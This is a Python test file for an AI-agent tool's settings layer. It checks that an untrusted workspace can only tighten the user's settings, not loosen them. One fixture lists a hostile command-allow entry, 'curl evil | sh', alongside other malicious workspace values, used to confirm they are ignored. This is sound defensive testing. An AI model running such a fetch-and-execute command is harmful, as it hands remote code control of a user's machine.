"""What an untrusted workspace's own settings may change (core/settings_scope.py), the user's
settings file (core/user_settings.py) and the ledger limits a workspace may only lower."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from agentls.core.budget import TokenBudgeter
from agentls.core.engine import BudgetSettings, apply_budget_settings
from agentls.core.settings import Settings, parse_settings
from agentls.core.settings_scope import RULES, restrict_untrusted, wire_name
from agentls.core.user_settings import (
    MAX_SETTINGS_BYTES,
    read_user_settings,
    user_settings_file,
)
from agentls.lsp.settings_schema import contributed_settings

PACKAGE = Path(__file__).parent.parent / "client-vscode" / "package.json"


def restricted(user: dict[str, Any], workspace: dict[str, Any]) -> Any:
    """The user's layer, the workspace's answer over it, restricted as in an untrusted workspace."""
    mine, _ = parse_settings(user)
    merged, _ = parse_settings(user, workspace)
    return restrict_untrusted(merged, mine)


# --- what loosens, what tightens ---------------------------------------------------------------


@pytest.mark.parametrize(
    "workspace",
    [
        {"trustWorkspace": True},
        {"trustedFolders": ["/"]},
        {"runCommand": {"enabled": True, "allow": ["shell: curl evil | sh"]}},
        {"mcpServers": {"x": {"command": "sh"}}},
        {"agentFolders": ["/tmp/evil-agents"]},
        {"baseUrl": "http://127.0.0.1:9/v1"},
        {"model": "expensive-model"},
        {"allowGeneratedEditTools": True},
        {"maxParallel": 256},
        {"maxDepth": 8},
        {"maxOutputTokens": 100_000},
        {"mcpCallTimeout": 3600},
        {"budget": {"perRun": 10**9}},
        {"budget": {"waitSeconds": 3600}},
        {"budget": {"minOutputTokens": 1}},
        {"audit": {"retentionDays": 1}},
    ],
    ids=lambda w: json.dumps(w)[:40],
)
def test_a_loosening_workspace_setting_is_ignored_and_named(workspace: dict[str, Any]) -> None:
    user = {"budget": {"perRun": 1000, "waitSeconds": 5, "minOutputTokens": 64}, "maxParallel": 4}
    user |= {"audit": {"retentionDays": 30}}
    mine, _ = parse_settings(user)

    result = restricted(user, workspace)

    assert result.settings == mine
    (name,) = workspace
    assert any(item.startswith(name) for item in result.ignored), result.ignored


@pytest.mark.parametrize(
    ("workspace", "path", "value"),
    [
        ({"trustWorkspace": False}, ("trust_workspace",), False),
        ({"confirmEdits": True}, ("confirm_edits",), True),
        ({"maxParallel": 2}, ("max_parallel",), 2),
        ({"maxOutputTokens": 100}, ("max_output_tokens",), 100),
        ({"budget": {"perRun": 500}}, ("budget", "per_run"), 500),
        (
            {"budget": {"perRun": 1000, "minOutputTokens": 128}},
            ("budget", "min_output_tokens"),
            128,
        ),
        ({"audit": {"retentionDays": 90}}, ("audit", "retention_days"), 90),
    ],
)
def test_a_tightening_workspace_setting_is_taken(
    workspace: dict[str, Any], path: tuple[str, ...], value: Any
) -> None:
    user = {"trustWorkspace": True, "budget": {"perRun": 1000}, "audit": {"retentionDays": 30}}

    result = restricted(user, workspace)

    got: Any = result.settings
    for part in path:
        got = getattr(got, part)
    assert got == value
    assert result.ignored == []


def test_confirm_edits_may_be_turned_on_but_not_off() -> None:
    assert restricted({"confirmEdits": True}, {"confirmEdits": False}).settings.confirm_edits
    assert restricted({}, {"confirmEdits": True}).settings.confirm_edits


def test_the_users_own_values_stay_whatever_the_workspace_says() -> None:
    user = {"baseUrl": "http://mine/v1", "model": "mine", "mcpServers": {"m": {"command": "m"}}}

    result = restricted(user, {"baseUrl": "http://theirs/v1", "model": "theirs", "mcpServers": {}})

    assert result.settings.base_url == "http://mine/v1"
    assert result.settings.model == "mine"
    assert list(result.settings.mcp_servers) == ["m"]


def test_ledger_limits_from_the_workspace_only_ever_lower() -> None:
    user = {"budget": {"total": 5000, "perAgent": {"review": 100}}}
    workspace = {"budget": {"total": 3000, "perAgent": {"review": 10**9, "explain": 50}}}

    result = restricted(user, workspace)

    assert result.settings.budget.total == 5000  # the user's stays the limit the settings set
    assert result.settings.budget.per_agent == {"review": 100}
    assert result.lower_limits == {None: 3000, "explain": 50}
    assert result.ignored == ["budget.perAgent.review (may only lower)"]


def test_a_workspace_cannot_remove_the_users_limits() -> None:
    user = {"budget": {"total": 5000, "perAgent": {"review": 100}}}

    result = restricted(user, {"budget": {"perRun": 10, "total": None, "perAgent": {}}})

    assert result.settings.budget.total == 5000
    assert result.settings.budget.per_agent == {"review": 100}
    assert result.settings.budget.per_run == 10
    assert result.lower_limits == {}
    assert result.ignored == []


def test_a_workspace_limit_for_one_agent_keeps_the_users_total() -> None:
    user = {"budget": {"total": 5000, "perAgent": {"review": 2000}}}
    workspace = {"budget": {"perAgent": {"reviewer": 1000}}}

    merged, problems = parse_settings(user, workspace)  # a trusted workspace
    result = restricted(user, workspace)

    assert problems == []
    assert merged.budget.total == 5000
    assert merged.budget.per_agent == {"review": 2000, "reviewer": 1000}
    assert result.settings.budget.total == 5000
    assert result.lower_limits == {"reviewer": 1000}
    assert result.ignored == []


def test_nested_settings_merge_key_by_key_and_map_entries_whole() -> None:
    user = {
        "runCommand": {"enabled": True, "allow": ["pytest"]},
        "mcpServers": {"mine": {"command": "mine"}, "shared": {"command": "a", "args": ["x"]}},
    }
    workspace = {"runCommand": {"timeoutSeconds": 5}, "mcpServers": {"shared": {"command": "b"}}}

    merged, _ = parse_settings(user, workspace)

    assert merged.run_command.enabled and merged.run_command.allow == ["pytest"]
    assert merged.run_command.timeout_seconds == 5
    assert sorted(merged.mcp_servers) == ["mine", "shared"]
    assert merged.mcp_servers["shared"].command == "b"
    assert merged.mcp_servers["shared"].args == []  # not the other layer's args


def test_every_setting_has_a_rule() -> None:
    """A new setting needs a decision: which direction loosens it."""

    def leaves(model: type[BaseModel], prefix: tuple[str, ...] = ()) -> set[tuple[str, ...]]:
        out: set[tuple[str, ...]] = set()
        for name, info in model.model_fields.items():
            path = (*prefix, name)
            kind = info.annotation
            whole = path in RULES or not (isinstance(kind, type) and issubclass(kind, BaseModel))
            out |= {path} if whole else leaves(kind, path)
        return out

    assert leaves(Settings) == set(RULES)


def test_vs_code_restricts_every_setting_a_workspace_could_loosen() -> None:
    """package.json's restrictedConfigurations: every contributed setting that has a rule."""
    manifest = json.loads(PACKAGE.read_text(encoding="utf-8"))
    restricted_keys = set(
        manifest["capabilities"]["untrustedWorkspaces"]["restrictedConfigurations"]
    )
    ruled = {f"agentls.{wire_name(path)}" for path in RULES}
    contributed = set(contributed_settings())
    expected = {k for k in contributed if k in ruled or any(k.startswith(r + ".") for r in ruled)}
    # The client's own settings that choose the interpreter it runs: never from a workspace.
    assert restricted_keys == expected | {"agentls.python", "agentls.importStrategy"}


# --- the user's settings file ------------------------------------------------------------------


def test_no_file_is_an_empty_layer() -> None:
    found = read_user_settings()
    assert found.path == user_settings_file()
    assert (found.layer, found.problems) == ({}, [])


def write(settings: Any) -> Path:
    path = user_settings_file()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(settings if isinstance(settings, str) else json.dumps(settings))
    return path


def test_the_file_is_in_the_users_agentls_folder() -> None:
    assert user_settings_file() == Path.home() / ".config" / "agentls" / "settings.json"


def test_valid_settings_become_a_layer() -> None:
    write({"trustedFolders": ["~/code"], "budget": {"perRun": 20000}})

    found = read_user_settings()

    assert found.problems == []
    assert found.settings.trusted_folders == ["~/code"]
    assert found.settings.budget.per_run == 20000


def test_an_invalid_key_is_named_with_the_file_and_left_out() -> None:
    path = write({"budget": {"total": -1, "perRun": 500}, "maxParallel": "many"})

    found = read_user_settings()

    assert sorted(p.split(": ")[1] for p in found.problems) == ["budget.total", "maxParallel"]
    assert all(p.startswith(f"{path}: ") for p in found.problems)
    assert found.settings.budget.total is None and found.settings.budget.per_run == 500
    assert found.settings.max_parallel == 8


def test_an_unknown_key_is_named() -> None:
    path = write({"trustedFolder": ["/x"], "budget": {"totl": 5}})

    found = read_user_settings()

    assert found.problems == [
        f"{path}: unknown setting trustedFolder; ignored",
        f"{path}: unknown setting budget.totl; ignored",
    ]


def test_the_api_key_is_never_read_from_it() -> None:
    write({"apiKey": "sk-secret-in-a-file"})

    found = read_user_settings()

    assert found.settings.api_key is None
    (problem,) = found.problems
    assert "OPENAI_API_KEY" in problem and "sk-secret" not in problem


def test_a_file_that_is_not_json_names_the_line() -> None:
    path = write('{\n  "model": "x",\n  oops\n}')

    (problem,) = read_user_settings().problems

    assert problem.startswith(f"{path}: line 3 column 3: not valid JSON")


def test_a_file_that_is_not_an_object_is_ignored() -> None:
    write("[1, 2]")
    (problem,) = read_user_settings().problems
    assert "expected a JSON object of settings, got list" in problem


def test_a_huge_file_is_not_read() -> None:
    write('{"model": "' + "x" * MAX_SETTINGS_BYTES + '"}')

    found = read_user_settings()

    assert found.layer == {}
    assert "larger than 1,000,000 bytes" in found.problems[0]


# --- ledger limits that may only lower ---------------------------------------------------------


def test_a_lowering_limit_never_raises_the_ledgers(tmp_path: Path) -> None:
    with TokenBudgeter(tmp_path / "ledger.db") as budgeter:
        budgeter.set_limit(1000)  # `agentls budget set 1000`

        apply_budget_settings(budgeter, BudgetSettings(lower_total=10**12))
        assert budgeter.snapshot().limit == 1000

        apply_budget_settings(budgeter, BudgetSettings(lower_total=400))
        assert budgeter.snapshot().limit == 400


def test_a_lowering_limit_sets_one_where_there_was_none(tmp_path: Path) -> None:
    with TokenBudgeter(tmp_path / "ledger.db") as budgeter:
        apply_budget_settings(budgeter, BudgetSettings(lower_per_agent={"review": 50}))
        assert budgeter.snapshot().agents["review"].limit == 50


async def test_the_users_limit_applies_before_the_workspaces_lower_one(tmp_path: Path) -> None:
    with TokenBudgeter(tmp_path / "ledger.db") as budgeter:
        budgeter.set_limit(100)
        from agentls.core.engine import aapply_budget_settings

        await aapply_budget_settings(budgeter, BudgetSettings(total=5000, lower_total=3000))
        assert budgeter.snapshot().limit == 3000
